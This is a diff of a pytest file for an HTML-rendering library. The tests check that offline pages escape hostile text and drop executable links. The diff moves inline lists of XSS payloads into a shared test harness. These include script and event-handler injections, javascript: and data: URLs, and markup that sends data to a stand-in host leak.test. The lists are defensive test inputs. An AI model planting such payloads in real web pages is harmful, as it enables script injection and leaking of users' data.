@@ -1,68 +1,21 @@
 """The shell of offline pages: escaped by construction, sealed by its policy, legible in both themes."""
 
 import re
-from html.parser import HTMLParser
 from importlib.resources import files
 from itertools import product
 from pathlib import Path
-from typing import Any, override
+from typing import Any
 
 import pytest
 
+from harness.attacks import ATTACKS, LINKS, HtmlReader
 from harness.browser import Browser, open_file
 from tanzaku.look import BothLanguages, Html, join, render_page, tag
-
-ATTACKS = [
-    "<script>document.title='hacked'</script>",
-    "</script><script>alert(1)</script>",
-    "</style><img src=x onerror=alert(1)>",
-    '"><svg/onload=alert(1)>',
-    "'><iframe srcdoc='<script>parent.alert(1)</script>'>",
-    "<img src=https://leak.test/?d=SECRET>",
-    "<link rel=stylesheet href=https://leak.test/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://leak.test/'>",
-    "<style>*{background:url(https://leak.test/css)}</style>",
-    "<form action=https://leak.test/><input name=k></form>",
-    "<base href=https://leak.test/>",
-    "<details open ontoggle=alert(1)>x",
-    "--><script>alert(1)</script><!--",
-    "]]><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\u202e\u0000\u001b[31m\ud800",
-]
-LINKS = [
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    " javascript:alert(1)",
-    "java\nscript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:x",
-]
-
-
-class Reader(HTMLParser):
-    """An independent reader: the texts, the elements and the attributes of a document."""
-
-    def __init__(self, document: str) -> None:
-        super().__init__()
-        self.tags: list[str] = []
-        self.attributes: list[tuple[str, str | None]] = []
-        self.text = ""
-        self.feed(document)
-
-    @override
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append(tag)
-        self.attributes += attrs
-
-    @override
-    def handle_data(self, data: str) -> None:
-        self.text += data
 
 
 @pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
 def test_a_text_is_shown_and_never_becomes_markup(attack: str) -> None:
-    read = Reader(tag("p", attack, join(attack), title=attack, data_x=attack))
+    read = HtmlReader(tag("p", attack, join(attack), title=attack, data_x=attack))
     shown = re.sub("[\u202e\x00\x1b\ud800]", lambda found: f"\\u{ord(found[0]):04x}", attack)
     assert read.tags == ["p"]
     assert read.text == shown * 2
@@ -78,12 +31,12 @@ def test_markup_stays_markup_and_nothing_is_nothing() -> None:
 
 @pytest.mark.parametrize("link", LINKS, ids=range(len(LINKS)))
 def test_a_link_that_could_run_something_is_left_out(link: str) -> None:
-    assert Reader(tag("a", "x", href=link)).attributes == []
+    assert HtmlReader(tag("a", "x", href=link)).attributes == []
 
 
 @pytest.mark.parametrize("link", ["#top", "a/b.html?x=1:2", "https://x.test/", "mailto:a@b.test"])
 def test_a_link_that_leads_somewhere_stays(link: str) -> None:
-    assert Reader(tag("a", "x", href=link)).attributes == [("href", link)]
+    assert HtmlReader(tag("a", "x", href=link)).attributes == [("href", link)]
 
 
 def test_a_style_or_script_cannot_end_its_element() -> None:
@@ -101,8 +54,8 @@ def test_messages_are_said_in_both_languages_with_hostile_values_escaped() -> No
     both = BothLanguages()
     assert both.say("page.skip").count("<span") == 2
     said = both.translate("{path} cannot be read: {reason}", {"path": ATTACKS[0], "reason": "x"})
-    assert "script" not in Reader(said).tags
-    assert Reader(said).text.count(ATTACKS[0]) == 2
+    assert "script" not in HtmlReader(said).tags
+    assert HtmlReader(said).text.count(ATTACKS[0]) == 2
 
 
 INKS = ["ink", "faint", "accent", "good", "bad", "warn"]
@@ -184,6 +137,7 @@ def test_the_theme_follows_the_system_and_turns_at_a_click(
     with open_file(browser, write(tmp_path, Html("x")), color_scheme=scheme) as page:
         assert page.evaluate(get_paper) == f"rgb({paper})"
         page.click("#theme")
+        page.locator("html[data-theme]").wait_for(state="attached")
         turned = page.evaluate(get_paper)
         assert turned != f"rgb({paper})"
         page.reload()
@@ -196,6 +150,7 @@ def test_the_language_turns_at_a_click(browser: Browser, tmp_path: Path) -> None
     with open_file(browser, write(tmp_path, body)) as page:
         assert page.inner_text("main p") == "Skip to the content"
         page.click("#lang")
+        page.locator("html[lang='zh-CN']").wait_for(state="attached")
         assert page.inner_text("main p") == "跳到正文"
         assert page.evaluate("document.documentElement.lang") == "zh-CN"
 
